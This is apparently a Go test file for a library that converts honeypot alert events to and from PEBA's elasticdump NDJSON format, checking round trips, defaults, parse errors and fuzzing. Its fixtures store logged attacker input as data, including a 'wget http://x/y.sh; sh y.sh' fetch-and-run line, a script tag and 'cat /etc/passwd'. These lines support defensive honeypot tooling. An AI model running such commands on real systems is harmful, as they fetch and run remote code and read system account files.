package pebadoc

import (
	"bytes"
	"encoding/json"
	"net/netip"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/peba-go/peba"
)

// workedExample is the stored document of peba.md §4.12 as an elasticdump
// line, with recievedTime filled in.
const workedExample = `{"_index":"ews-2018.04.24-1","_type":"Alert","_id":"518ddeb1e5372e318cf15172fc32fae5","_score":1,"_source":` +
	`{"country":"PIR","countryName":"IANA Private IP Range","vulnid":"","originalRequestString":"","sourceEntryAS":"IANA",` +
	`"createTime":"2018-04-24 12:12:29","clientDomain":true,"peerIdent":"heralding-community-01","peerType":"Passwords(heralding)",` +
	`"client":"-","location":"0.0 , 0.0","locationDestination":"51.2993 , 9.491","sourceEntryIp":"172.21.0.1","sourceEntryPort":"43288",` +
	`"additionalData":"{\"protocol\": \"ssh\"}","targetEntryIp":"87.150.238.182","targetEntryPort":"22","targetCountry":"DE",` +
	`"targetCountryName":"Germany","targetEntryAS":"AS3320 Deutsche Telekom AG","username":"root","password":"1337","login":"",` +
	`"targetport":"tcp","clientVersion":"","sessionStart":"","sessionEnd":"","recievedTime":"2018-04-24 12:13:01","externalIP":"5.4.4.4",` +
	`"internalIP":"10.1.1.1","hostname":"liquidxtc","rawhttp":"-"}}`

func TestUnmarshalEventWorkedExample(t *testing.T) {
	got, err := UnmarshalEvent([]byte(workedExample))
	if err != nil {
		t.Fatal(err)
	}
	want := peba.Event{
		ID:             "518ddeb1e5372e318cf15172fc32fae5",
		Domain:         peba.DomainCommunity,
		Origin:         "import",
		ReceivedTime:   time.Date(2018, 4, 24, 12, 13, 1, 0, time.UTC),
		CreateTime:     time.Date(2018, 4, 24, 12, 12, 29, 0, time.UTC),
		PeerIdent:      "heralding-community-01",
		PeerType:       "Passwords(heralding)",
		Hostname:       "liquidxtc",
		ExternalIP:     "5.4.4.4",
		InternalIP:     "10.1.1.1",
		SrcIP:          netip.MustParseAddr("172.21.0.1"),
		SrcPort:        43288,
		DstIP:          netip.MustParseAddr("87.150.238.182"),
		DstPort:        22,
		Transport:      "tcp",
		Username:       "root",
		Password:       "1337",
		AdditionalData: []peba.Attr{{Key: "protocol", Value: "ssh"}},
		Src:            peba.Geo{Country: "PIR", CountryName: "IANA Private IP Range", ASN: "IANA"},
		Dst:            peba.Geo{Country: "DE", CountryName: "Germany", ASN: "AS3320 Deutsche Telekom AG", Lat: 51.2993, Lon: 9.491},
	}
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("got  %+v\nwant %+v", got, want)
	}

	// Exporting it again gives back PEBA's document field for field.
	line, err := MarshalEvent(&got)
	if err != nil {
		t.Fatal(err)
	}
	var orig struct {
		Source map[string]any `json:"_source"`
	}
	if err := json.Unmarshal([]byte(workedExample), &orig); err != nil {
		t.Fatal(err)
	}
	var exported map[string]any
	if err := json.Unmarshal(line, &exported); err != nil {
		t.Fatal(err)
	}
	for k, v := range orig.Source {
		if !reflect.DeepEqual(exported[k], v) {
			t.Errorf("exported %s = %#v, PEBA stored %#v", k, exported[k], v)
		}
	}
}

func fullEvent() peba.Event {
	return peba.Event{
		ID:            "e\u00e9\"1",
		Domain:        peba.DomainPrivate,
		Submitter:     "alice",
		Origin:        "ews",
		ReceivedTime:  time.Date(2024, 2, 29, 23, 59, 59, 123456000, time.UTC),
		CreateTime:    time.Date(2024, 2, 29, 21, 0, 0, 1000, time.UTC),
		PeerIdent:     "cowrie-01",
		PeerType:      "SSH/console(cowrie)",
		SensorUUID:    "6f1c1e3a-0000-4000-8000-000000000001",
		Hostname:      "", // PEBA shows "undefined", x_hostname keeps ""
		ExternalIP:    "2001:db8::2",
		InternalIP:    "",
		SrcIP:         netip.MustParseAddr("2001:db8::1"),
		SrcPort:       0,
		DstIP:         netip.MustParseAddr("10.0.0.7"),
		DstPort:       peba.NoPort,
		Transport:     "tcp",
		URL:           "\nwget http://x/y.sh; sh y.sh\n<script>&</script>",
		VulnID:        "CVE-2012-5959 CVE-2012-5958",
		Username:      "r\u00f6\u00f6t",
		Password:      "p\"a\\ss\x01",
		Login:         "Success",
		ClientVersion: "SSH-2.0-libssh-0.6.0",
		SessionStart:  "2024-02-29 21:00:00",
		SessionEnd:    "2024-02-29 21:00:31",
		RawHTTP:       "GET / HTTP/1.1\r\nHost: x\r\n\r\n",
		PayloadMD5:    "0123456789abcdef0123456789abcdef",
		AdditionalData: []peba.Attr{
			{Key: "payload_md5", Value: "ffffffffffffffffffffffffffffffff"}, // differs from PayloadMD5 on purpose
			{Key: "protocol", Value: "ssh"},
			{Key: "protocol", Value: "telnet \U0001F600"},
		},
		Fields: []peba.Attr{
			{Key: "input", Value: "uname -a\nid"},
			{Key: "input", Value: "cat /etc/passwd"},
			{Key: "\u65e5\u672c", Value: "\u2028"},
		},
		Requests: []peba.Attr{{Key: "url", Value: "/a?b=c&d=<e>"}, {Key: "description", Value: ""}},
		Src:      peba.Geo{Country: "JP", CountryName: "Japan", ASN: "AS2516 KDDI", Lat: 35.69, Lon: 139.69},
		Dst:      peba.Geo{Country: "-", CountryName: "-", ASN: "-", Lat: -33.9, Lon: 1e-05},
	}
}

func roundTrip(t *testing.T, e peba.Event) []byte {
	t.Helper()
	line, err := MarshalEvent(&e)
	if err != nil {
		t.Fatal(err)
	}
	if bytes.ContainsAny(line, "\n\r") || !json.Valid(line) || !bytes.HasPrefix(line, []byte(`{"_id":`)) {
		t.Fatalf("not one NDJSON line: %s", line)
	}
	got, err := UnmarshalEvent(line)
	if err != nil {
		t.Fatalf("%v\n%s", err, line)
	}
	if !reflect.DeepEqual(got, e) {
		t.Fatalf("round trip changed the event\n got  %+v\n want %+v\n line %s", got, e, line)
	}
	return line
}

func TestRoundTrip(t *testing.T) {
	t.Run("full", func(t *testing.T) {
		line := roundTrip(t, fullEvent())
		// The PEBA view of the same line.
		for _, frag := range []string{
			`"createTime":"2024-02-29 21:00:00"`, `"recievedTime":"2024-02-29 23:59:59"`,
			`"x_createTime":"2024-02-29T21:00:00.000001Z"`, `"x_recievedTime":"2024-02-29T23:59:59.123456Z"`,
			`"clientDomain":false`, `"sourceEntryIp":"2001:db8::1"`, `"sourceEntryPort":"0"`, `"targetEntryPort":""`,
			`"hostname":"undefined"`, `"x_hostname":""`, `"internalIP":"1.1.1.1"`, `"x_internalIP":""`,
			`"location":"35.69 , 139.69"`, `"locationDestination":"-33.9 , 1e-05"`, `"client":"-"`,
			`"additionalData":"{\"payload_md5\": \"ffffffffffffffffffffffffffffffff\", \"protocol\": \"ssh\", \"protocol\": \"telnet \\ud83d\\ude00\"}"`,
			`"x_fields":[["input","uname -a\nid"],`, `<script>&</script>`,
		} {
			if !bytes.Contains(line, []byte(frag)) {
				t.Errorf("line lacks %s\n%s", frag, line)
			}
		}
		if bytes.Contains(line, []byte("x_externalIP")) || bytes.Contains(line, []byte("x_rawhttp")) {
			t.Errorf("x_ twin written for a value PEBA's field carries: %s", line)
		}
	})
	t.Run("minimal", func(t *testing.T) {
		roundTrip(t, peba.Event{ID: "m", Domain: peba.DomainCommunity})
	})
	t.Run("rawhttp dash", func(t *testing.T) {
		e := fullEvent()
		e.RawHTTP = "-"
		if line := roundTrip(t, e); !bytes.Contains(line, []byte(`"x_rawhttp":"-"`)) {
			t.Errorf("no x_rawhttp: %s", line)
		}
		e.RawHTTP = ""
		if line := roundTrip(t, e); !bytes.Contains(line, []byte(`"rawhttp":"-"`)) {
			t.Errorf("empty rawhttp not written as PEBA's \"-\": %s", line)
		}
	})
	t.Run("kept port and ip text", func(t *testing.T) {
		e := fullEvent()
		e.DstIP = netip.Addr{}
		e.Fields = append(e.Fields, peba.Attr{Key: "_targetEntryPort", Value: "undefined"}, peba.Attr{Key: "_targetEntryIp", Value: "not-an-ip"})
		line := roundTrip(t, e)
		if !bytes.Contains(line, []byte(`"targetEntryPort":"undefined"`)) || !bytes.Contains(line, []byte(`"targetEntryIp":"not-an-ip"`)) {
			t.Errorf("kept text not written back: %s", line)
		}
	})
	t.Run("sensor fields cannot forge a port or ip", func(t *testing.T) {
		e := fullEvent()
		e.DstIP = netip.Addr{}
		e.Fields = append(e.Fields, peba.Attr{Key: "_targetEntryPort", Value: "22"}, peba.Attr{Key: "_targetEntryIp", Value: "8.8.8.8"})
		line := roundTrip(t, e)
		if !bytes.Contains(line, []byte(`"targetEntryPort":""`)) || !bytes.Contains(line, []byte(`"targetEntryIp":""`)) {
			t.Errorf("forged values written: %s", line)
		}
	})
}

func TestMarshalEventRejects(t *testing.T) {
	f := func(name string, mod func(*peba.Event)) {
		t.Helper()
		e := fullEvent()
		mod(&e)
		if _, err := MarshalEvent(&e); peba.ErrorCode(err) != peba.EINVALID {
			t.Errorf("%s: err = %v, want EINVALID", name, err)
		}
	}
	f("empty id", func(e *peba.Event) { e.ID = "" })
	f("long id", func(e *peba.Event) { e.ID = strings.Repeat("a", 513) })
	f("domain", func(e *peba.Event) { e.Domain = 0 })
	f("port", func(e *peba.Event) { e.SrcPort = 65536 })
	f("negative port", func(e *peba.Event) { e.DstPort = -2 })
	f("year", func(e *peba.Event) { e.CreateTime = time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC) })
}

func TestUnmarshalEventDefaults(t *testing.T) {
	want := peba.Event{
		ID:           "d1",
		Domain:       peba.DomainCommunity,
		Origin:       "import",
		CreateTime:   time.Date(2020, 1, 1, 10, 0, 0, 0, time.UTC),
		ReceivedTime: time.Date(2020, 1, 1, 10, 0, 0, 0, time.UTC), // createTime stands in
		PeerType:     "Unclassified",
		Hostname:     "undefined",
		ExternalIP:   "1.1.1.1",
		InternalIP:   "1.1.1.1",
		SrcPort:      peba.NoPort,
		DstPort:      peba.NoPort,
		Src:          peba.UnknownGeo,
		Dst:          peba.UnknownGeo,
	}
	nulls := map[string]any{"createTime": "2020-01-01 10:00:00"}
	for _, k := range []string{"country", "countryName", "vulnid", "originalRequestString", "sourceEntryAS", "clientDomain",
		"peerIdent", "peerType", "client", "location", "locationDestination", "sourceEntryIp", "sourceEntryPort", "additionalData",
		"targetEntryIp", "targetEntryPort", "targetCountry", "targetCountryName", "targetEntryAS", "username", "password", "login",
		"targetport", "clientVersion", "sessionStart", "sessionEnd", "recievedTime", "externalIP", "internalIP", "hostname", "rawhttp",
		"x_createTime", "x_recievedTime", "x_origin", "x_fields", "x_requests", "x_payloadMD5", "x_hostname"} {
		nulls[k] = nil
	}
	es6, _ := json.Marshal(map[string]any{"_id": "d1", "_source": nulls})
	for name, line := range map[string]string{
		"missing": `{"_id":"d1","_source":{"createTime":"2020-01-01 10:00:00"}}`,
		"flat":    `{"id":"d1","createTime":"2020-01-01 10:00:00"}`,
		"nulls":   string(es6),
	} {
		got, err := UnmarshalEvent([]byte(line))
		if err != nil {
			t.Errorf("%s: %v", name, err)
			continue
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s:\n got  %+v\n want %+v", name, got, want)
		}
	}
}

func TestUnmarshalEventFields(t *testing.T) {
	f := func(source string, check func(peba.Event) bool) {
		t.Helper()
		line := `{"_id":"x","_source":{"createTime":"2020-01-01 10:00:00",` + source + `}}`
		e, err := UnmarshalEvent([]byte(line))
		if err != nil {
			t.Errorf("%s: %v", source, err)
			return
		}
		if !check(e) {
			t.Errorf("%s: unexpected %+v", source, e)
		}
	}
	kept := func(k, v string) []peba.Attr { return []peba.Attr{{Key: k, Value: v}} }
	f(`"targetEntryPort":"undefined"`, func(e peba.Event) bool {
		return e.DstPort == peba.NoPort && reflect.DeepEqual(e.Fields, kept("_targetEntryPort", "undefined"))
	})
	f(`"sourceEntryPort":"65536"`, func(e peba.Event) bool {
		return e.SrcPort == peba.NoPort && reflect.DeepEqual(e.Fields, kept("_sourceEntryPort", "65536"))
	})
	f(`"sourceEntryPort":" 22"`, func(e peba.Event) bool { return e.SrcPort == peba.NoPort && len(e.Fields) == 1 })
	f(`"sourceEntryPort":""`, func(e peba.Event) bool { return e.SrcPort == peba.NoPort && e.Fields == nil })
	f(`"sourceEntryPort":65535,"targetEntryPort":"0"`, func(e peba.Event) bool { return e.SrcPort == 65535 && e.DstPort == 0 })
	f(`"sourceEntryIp":"::ffff:1.2.3.4"`, func(e peba.Event) bool { return e.SrcIP == netip.MustParseAddr("1.2.3.4") })
	f(`"sourceEntryIp":"1.2.3.4 "`, func(e peba.Event) bool {
		return !e.SrcIP.IsValid() && reflect.DeepEqual(e.Fields, kept("_sourceEntryIp", "1.2.3.4 "))
	})
	f(`"targetEntryIp":"fe80::1%eth0"`, func(e peba.Event) bool { return !e.DstIP.IsValid() && len(e.Fields) == 1 })
	f(`"clientDomain":false`, func(e peba.Event) bool { return e.Domain == peba.DomainPrivate })
	f(`"rawhttp":"-"`, func(e peba.Event) bool { return e.RawHTTP == "" })
	f(`"hostname":""`, func(e peba.Event) bool { return e.Hostname == "" })
	f(`"username":null,"password":null`, func(e peba.Event) bool { return e.Username == "" && e.Password == "" })
	f(`"location":"50.0,7.5","locationDestination":"nan , 1.0"`, func(e peba.Event) bool {
		return e.Src.Lat == 50 && e.Src.Lon == 7.5 && e.Dst.Lat == 0 && e.Dst.Lon == 0
	})
	f(`"location":"91.0 , 0.0"`, func(e peba.Event) bool { return e.Src.Lat == 0 })
	// additionalData: text order and repeats kept, non-strings as JSON text,
	// the last valid payload_md5 wins, lowercased.
	f(`"additionalData":"{\"payload_md5\": \"x\", \"b\": 1.50, \"a\": null, \"b\": [1, {\"c\": true}], \"payload_md5\": \"0123456789ABCDEF0123456789abcdef\"}"`,
		func(e peba.Event) bool {
			return reflect.DeepEqual(e.AdditionalData, []peba.Attr{
				{Key: "payload_md5", Value: "x"}, {Key: "b", Value: "1.50"}, {Key: "a", Value: ""},
				{Key: "b", Value: `[1,{"c":true}]`}, {Key: "payload_md5", Value: "0123456789ABCDEF0123456789abcdef"},
			}) && e.PayloadMD5 == "0123456789abcdef0123456789abcdef"
		})
	f(`"additionalData":{"z":"1","a":"\u00e9"}`, func(e peba.Event) bool {
		return reflect.DeepEqual(e.AdditionalData, []peba.Attr{{Key: "z", Value: "1"}, {Key: "a", Value: "é"}})
	})
	f(`"additionalData":"{\"payload_md5\": \"0123456789abcdef0123456789abcdeg\"}"`, func(e peba.Event) bool { return e.PayloadMD5 == "" })
	f(`"additionalData":"{}"`, func(e peba.Event) bool { return e.AdditionalData == nil })
	f(`"additionalData":""`, func(e peba.Event) bool { return e.AdditionalData == nil })
	// Time forms of PEBA's date mapping, all UTC.
	day := time.Date(2020, 1, 1, 0, 0, 0, 0, time.UTC)
	f(`"recievedTime":"2020-01-01"`, func(e peba.Event) bool { return e.ReceivedTime == day })
	f(`"recievedTime":1577836800000`, func(e peba.Event) bool { return e.ReceivedTime == day })
	f(`"recievedTime":"1577836800000"`, func(e peba.Event) bool { return e.ReceivedTime == day })
	f(`"recievedTime":"2020-01-01T02:00:00+02:00"`, func(e peba.Event) bool { return e.ReceivedTime == day })
	f(`"x_recievedTime":"2020-01-01T00:00:00.000001Z","recievedTime":"1999-01-01 00:00:00"`, func(e peba.Event) bool {
		return e.ReceivedTime == day.Add(time.Microsecond)
	})
	f(`"x_origin":"ews","x_submitter":"bob"`, func(e peba.Event) bool { return e.Origin == "ews" && e.Submitter == "bob" })
	f(`"x_fields":[],"sourceEntryPort":"bad"`, func(e peba.Event) bool { return e.Fields == nil && e.SrcPort == peba.NoPort })
	f(`"peerType":"Network(honeytrap)","originalRequestString":"Attack on port 80/"`, func(e peba.Event) bool {
		return e.PeerType == "Network(honeytrap)" && e.URL == "Attack on port 80/"
	})
}

func TestUnmarshalEventErrors(t *testing.T) {
	f := func(line, wantMsg string) {
		t.Helper()
		_, err := UnmarshalEvent([]byte(line))
		if peba.ErrorCode(err) != peba.EINVALID || !strings.Contains(peba.ErrorMessage(err), wantMsg) {
			t.Errorf("%.80s: err = %v, want EINVALID containing %q", line, err, wantMsg)
		}
	}
	ok := `"createTime":"2020-01-01 10:00:00"`
	f(``, "invalid JSON")
	f(`garbage`, "invalid JSON")
	f(`[1,2]`, "invalid JSON")
	f(`null`, "invalid JSON")
	f(`{"_id":"a"} {"_id":"b"}`, "invalid JSON")
	f(`{}`, "missing _id and id")
	f(`{"_id":"","_source":{`+ok+`}}`, "_id must have")
	f(`{"_id":"`+strings.Repeat("x", 513)+`","_source":{`+ok+`}}`, "_id must have")
	f(`{"_id":5,"_source":{`+ok+`}}`, "_id is not a string")
	f(`{"_id":"a","_source":"text"}`, "_source")
	f(`{"_id":"a","_source":{}}`, "missing createTime")
	f(`{"_id":"a","_source":{"createTime":"-"}}`, "cannot parse createTime")
	f(`{"_id":"a","_source":{"createTime":"2018-13-01 00:00:00"}}`, "cannot parse createTime")
	f(`{"_id":"a","_source":{"createTime":99999999999999999}}`, "cannot parse createTime")
	f(`{"_id":"a","_source":{"createTime":"0000-01-01T00:00:00Z"}}`, "cannot parse createTime")
	f(`{"_id":"a","_source":{`+ok+`,"x_createTime":"yesterday"}}`, "cannot parse x_createTime")
	f(`{"_id":"a","_source":{`+ok+`,"recievedTime":"soon"}}`, "cannot parse recievedTime")
	f(`{"_id":"a","_source":{`+ok+`,"clientDomain":"yes"}}`, "clientDomain is not a boolean")
	f(`{"_id":"a","_source":{`+ok+`,"additionalData":"{\"a\": "}}`, "cannot parse additionalData")
	f(`{"_id":"a","_source":{`+ok+`,"additionalData":"{} x"}}`, "cannot parse additionalData")
	f(`{"_id":"a","_source":{`+ok+`,"additionalData":"[1]"}}`, "cannot parse additionalData")
	f(`{"_id":"a","_source":{`+ok+`,"additionalData":5}}`, "cannot parse additionalData")
	f(`{"_id":"a","_source":{`+ok+`,"x_fields":[["k"]]}}`, "x_fields")
	f(`{"_id":"a","_source":{`+ok+`,"x_requests":{"k":"v"}}}`, "x_requests")
}

// FuzzUnmarshalEvent checks that no input panics, and that whatever imports
// exports and imports again unchanged (times at microsecond precision).
func FuzzUnmarshalEvent(f *testing.F) {
	f.Add([]byte(workedExample))
	e := fullEvent()
	line, _ := MarshalEvent(&e)
	f.Add(line)
	f.Add([]byte(`{"_id":"a","_source":{"createTime":1,"additionalData":{"a":[1]},"sourceEntryPort":"x","location":"1e400 , 0"}}`))
	f.Add([]byte(`{"id":"a","createTime":"2020-01-01T00:00:00.123456789+01:00","x_fields":[["a","\ud800"]]}`))
	f.Add([]byte(`{"_id":"a","_source":{"createTime":"2020-01-01","additionalData":"{\"\\u00e9\": \"\\ud83d\\ude00\"}"}}`))
	f.Fuzz(func(t *testing.T, line []byte) {
		e, err := UnmarshalEvent(line)
		if err != nil {
			if peba.ErrorCode(err) != peba.EINVALID {
				t.Fatalf("error code %q: %v", peba.ErrorCode(err), err)
			}
			return
		}
		out, err := MarshalEvent(&e)
		if err != nil {
			t.Fatalf("cannot export an imported event: %v", err)
		}
		again, err := UnmarshalEvent(out)
		if err != nil {
			t.Fatalf("cannot import an exported event: %v\n%s", err, out)
		}
		e.CreateTime = e.CreateTime.Truncate(time.Microsecond)
		e.ReceivedTime = e.ReceivedTime.Truncate(time.Microsecond)
		if !reflect.DeepEqual(again, e) {
			t.Fatalf("export changed the event\n got  %+v\n want %+v\n line %s", again, e, out)
		}
	})
}

func BenchmarkMarshalEvent(b *testing.B) {
	e := fullEvent()
	b.ReportAllocs()
	for b.Loop() {
		if _, err := MarshalEvent(&e); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkUnmarshalEvent(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if _, err := UnmarshalEvent([]byte(workedExample)); err != nil {
			b.Fatal(err)
		}
	}
}
